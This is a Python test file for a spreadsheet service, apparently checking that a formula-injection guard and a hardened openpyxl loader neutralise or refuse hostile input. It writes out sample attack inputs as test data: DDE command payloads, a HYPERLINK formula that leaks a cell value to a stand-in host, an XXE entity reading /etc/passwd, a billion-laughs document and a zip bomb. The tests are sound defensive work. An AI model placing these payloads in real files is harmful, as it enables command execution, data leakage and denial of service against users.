"""Formula-injection guard (real openpyxl round trip) and the hardened loader for untrusted
workbooks (defusedxml active, billion laughs and external entities refused, zip bombs refused)."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from app.services.spreadsheet import (
    UnsafeWorkbookError,
    defused_xml_active,
    read_rows,
    safe_cell,
    safe_row,
    untrusted_workbook,
)

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\uff1d1+1",
]


def _roundtrip(values: list) -> tuple[list, str]:
    wb = openpyxl.Workbook()
    ws = wb.active
    for v in values:
        ws.append([safe_cell(v)])
    buf = io.BytesIO()
    wb.save(buf)
    xml = zipfile.ZipFile(buf).read("xl/worksheets/sheet1.xml").decode()
    buf.seek(0)
    back = openpyxl.load_workbook(buf)
    return [(c.value, c.data_type) for c in back.active["A"]], xml


def test_unguarded_equals_sign_really_becomes_a_formula():
    """The reason for the guard: openpyxl writes any '=…' string as a formula."""
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=1+1"
    assert wb.active["A1"].data_type == "f"


def test_guarded_cells_come_back_as_plain_text_without_formula_elements():
    cells, xml = _roundtrip(DANGEROUS)
    assert "<f>" not in xml and "<f " not in xml
    for original, (value, data_type) in zip(DANGEROUS, cells, strict=True):
        assert data_type == "s"
        assert value == "'" + original


def test_harmless_values_pass_unchanged():
    values = ["Tips polis", "-", "+", "a=b", "Södermalm", -5, 3.5, 0, None, True]
    assert safe_row(values) == values
    cells, xml = _roundtrip([v for v in values if v is not None])
    assert "<f>" not in xml
    assert cells[5] == (-5, "n")


def _xlsx_with(part: str, xml: str) -> bytes:
    wb = openpyxl.Workbook()
    wb.active.title = "Ärenden"
    wb.active.append(["Ärende", "Källa"])
    wb.active.append(["A-1", "BINR"])
    buf = io.BytesIO()
    wb.save(buf)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = xml.encode() if item.filename == part else src.read(item.filename)
            dst.writestr(item.filename, data)
    return out.getvalue()


LOL = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(2, 10))
    + '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
)
SHEET_BODY = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row></sheetData></worksheet>'
)


def _read_all(source) -> list:
    with untrusted_workbook(source) as wb:
        return [row for ws in wb.worksheets for row in read_rows(ws)]


def test_defusedxml_is_what_openpyxl_uses():
    assert defused_xml_active()


@pytest.mark.parametrize(
    "doc",
    [
        LOL + SHEET_BODY.format(text="&lol9;"),
        '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + SHEET_BODY.format(text="&xxe;"),
    ],
    ids=["billion-laughs", "external-entity"],
)
def test_entity_tricks_in_a_sheet_are_refused(doc, tmp_path):
    path = tmp_path / "evil.xlsx"
    path.write_bytes(_xlsx_with("xl/worksheets/sheet1.xml", doc))
    with pytest.raises(UnsafeWorkbookError) as err:
        _read_all(path)
    assert "skadliga" in err.value.message()


def test_entity_tricks_in_the_workbook_part_are_refused(tmp_path):
    path = tmp_path / "evil.xlsx"
    good = zipfile.ZipFile(io.BytesIO(_xlsx_with("none", ""))).read("xl/workbook.xml").decode()
    body = good.split("?>", 1)[-1]
    assert "Ärenden" in body
    evil = LOL + body.replace("Ärenden", "&lol9;")
    path.write_bytes(_xlsx_with("xl/workbook.xml", evil))
    with pytest.raises(UnsafeWorkbookError) as err:
        _read_all(path)
    assert "skadliga" in err.value.message()


def test_not_a_workbook_and_zip_bomb_are_refused(tmp_path):
    text = tmp_path / "ark.xlsx"
    text.write_text("Ärende;Källa\n")
    with pytest.raises(UnsafeWorkbookError) as err:
        _read_all(text)
    assert ".xlsx" in err.value.message()
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * (40 * 1024 * 1024))
    with pytest.raises(UnsafeWorkbookError) as err:
        _read_all(bomb)
    assert "orimligt" in err.value.message()


def test_good_workbook_reads_from_path_and_stream(tmp_path):
    data = _xlsx_with("none", "")
    path = tmp_path / "ok.xlsx"
    path.write_bytes(data)
    assert _read_all(path) == [("Ärende", "Källa"), ("A-1", "BINR")]
    assert _read_all(io.BytesIO(data)) == [("Ärende", "Källa"), ("A-1", "BINR")]


def test_loader_refuses_when_defusedxml_is_switched_off(tmp_path):
    path = tmp_path / "ok.xlsx"
    path.write_bytes(_xlsx_with("none", ""))
    code = (
        "import sys\n"
        "from app.services.spreadsheet import untrusted_workbook, UnsafeWorkbookError\n"
        "try:\n"
        f"    untrusted_workbook({str(path)!r}).__enter__()\n"
        "except UnsafeWorkbookError as e:\n"
        "    print('refused', e.message()); sys.exit(0)\n"
        "sys.exit(1)\n"
    )
    env = {"OPENPYXL_DEFUSEDXML": "False", "PATH": "/usr/bin:/bin"}
    result = subprocess.run(
        [sys.executable, "-c", code],
        env=env,
        capture_output=True,
        text=True,
        cwd=Path(__file__).resolve().parents[1],
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert "defusedxml" in result.stdout
